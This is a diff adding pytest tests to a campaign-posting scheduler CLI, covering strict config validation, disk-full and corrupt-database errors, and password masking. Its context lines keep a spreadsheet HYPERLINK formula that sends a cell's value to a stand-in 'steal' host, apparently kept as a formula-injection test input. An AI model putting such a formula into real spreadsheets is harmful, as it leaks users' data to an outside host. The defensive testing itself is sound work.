@@ -15,6 +15,8 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
+from scheduler.config import config_template
+
 FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1, "Bấm vào đây")'
 
 
@@ -169,3 +171,97 @@ def test_password_of_a_postgresql_url_from_the_environment_is_masked(bare, postg
     assert result.exit_code == 0, result.output
     assert "hunter2" not in result.output and "hunter3" not in result.output
     assert "loa:***@127.0.0.1" in result.stdout and "password=***" in result.stdout
+
+
+# --- item 17: input faults are exit 2 with one line, runtime faults exit 1 with one line, never "internal error" --
+
+@pytest.mark.parametrize("day", [10**12, 2**62, 400_000, 0, -5])
+def test_day_number_out_of_range_is_refused(project, day):
+    text = campaign_toml("tuan-le", posts=2).replace("day = 2", f"day = {day}", 1)
+    line = project.fails("campaign", "import", str(project.write("c.toml", text)))
+    assert "posts[2].day" in line
+    assert project.counts()["posts"] == 0
+
+
+def test_post_past_the_year_2999_is_an_error_not_a_warning(project):
+    text = campaign_toml("tuan-le", start=dt.date(2999, 12, 25), posts=1).replace("day = 1", "day = 8", 1)
+    line = project.fails("campaign", "import", str(project.write("c.toml", text)))
+    assert "posts[1].day" in line and "1970" in line and "2999" in line
+    assert project.counts()["posts"] == 0
+
+
+@pytest.mark.parametrize(("setting", "key"), [
+    ("lease_seconds = inf", "daemon.lease_seconds"), ("lease_seconds = nan", "daemon.lease_seconds"),
+    ("lease_seconds = 1e300", "daemon.lease_seconds"), ('lease_seconds = "600"', "daemon.lease_seconds"),
+    ("max_attempts = true", "daemon.max_attempts"), ("max_attempts = 2.5", "daemon.max_attempts"),
+    ("retry_max_seconds = -inf", "daemon.retry_max_seconds"), ("grace_minutes = 1e20", "daemon.grace_minutes"),
+    ("health_minutes = 0", "daemon.health_minutes"), ('sweep_seconds = "1"', "daemon.sweep_seconds")])
+def test_daemon_settings_are_strict_numbers_in_sane_ranges(project, setting, key):
+    text = project.config.read_text(encoding="utf-8")
+    project.config.write_text(text.replace("\n[daemon]\n", f"\n[daemon]\n{setting}\n", 1), encoding="utf-8")
+    for command in (["status"], ["run", "--once"]):
+        line = project.fails(*command)
+        assert key in line and "config.toml:" in line, line
+
+
+def test_channel_settings_are_strict_too(project):
+    project.set_channel("portal", 'adapter = "static-site"\npath = "var/site"\nconcurrency = "2"')
+    assert "channels.portal.concurrency" in project.fails("queue")
+    project.set_channel("portal", 'adapter = "static-site"\npath = "var/site"\nconcurrency = true')
+    assert "channels.portal.concurrency" in project.fails("queue")
+
+
+@pytest.mark.parametrize("folder", ["/dev/null", "/dev/null/media", "config.toml"])
+def test_media_folder_that_is_not_a_folder_is_refused(project, folder):
+    text = project.config.read_text(encoding="utf-8")
+    assert '\nmedia = "var/media"' in text
+    project.config.write_text(text.replace('\nmedia = "var/media"', f'\nmedia = "{folder}"', 1), encoding="utf-8")
+    path = project.write("c.toml", campaign_toml("tuan-le", posts=1, post_lines='banner = { headline = "Tiêu đề" }'))
+    line = project.fails("campaign", "import", str(path))
+    assert "render.media" in line and "is not a folder" in line
+    assert project.counts()["posts"] == 0
+
+
+def test_static_site_path_that_is_a_device_is_refused(project):
+    project.set_channel("portal", 'adapter = "static-site"\npath = "/dev/null"')
+    line = project.fails("channels", "check")
+    assert "channels.portal.path" in line and "/dev/null" in line
+
+
+@pytest.fixture
+def small_disk(project):
+    """The media folder on a 200 kB tmpfs: a real ENOSPC, not a patched function."""
+    media = project.root / "var" / "media"
+    media.mkdir(parents=True, exist_ok=True)
+    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=200k", "tmpfs", str(media)], capture_output=True)
+    assert mounted.returncode == 0, f"this test mounts a tmpfs (needs root): {mounted.stderr!r}"
+    try:
+        yield media
+    finally:
+        subprocess.run(["umount", str(media)], check=True)
+
+
+def test_disk_full_during_import_is_one_line_exit_1_and_nothing_queued(project, small_disk):
+    banner = 'banner = { headline = "Khai mạc Tuần lễ học tập suốt đời", sizes = ["a3", "story", "square"] }'
+    path = project.write("c.toml", campaign_toml("tuan-le", posts=6, post_lines=banner))
+    line = project.fails("campaign", "import", str(path), code=1)
+    assert line.startswith("error: cannot write") and "No space left on device" in line, line
+    assert "internal error" not in line
+    assert project.counts()["posts"] == 0 and project.counts()["campaigns"] == 0
+
+
+def test_corrupt_database_is_a_database_error_naming_it(project):
+    with open(project.db_path, "r+b") as handle:
+        handle.write(b"this is not a database " * 200)
+    for command in (["queue"], ["status"], ["campaign", "list"]):
+        line = project.fails(*command, code=1)
+        assert line.startswith("error: database error: ") and str(project.db_path) in line, line
+        assert "internal error" not in line
+
+
+def test_channels_check_before_init(bare):
+    bare.config.write_text(config_template(), encoding="utf-8")
+    result = bare.run("channels", "check")
+    assert result.exit_code == 0, result.output
+    assert "portal: OK" in result.stdout and "Traceback" not in result.output
+    assert not bare.db_path.exists()  # checking channels creates no database
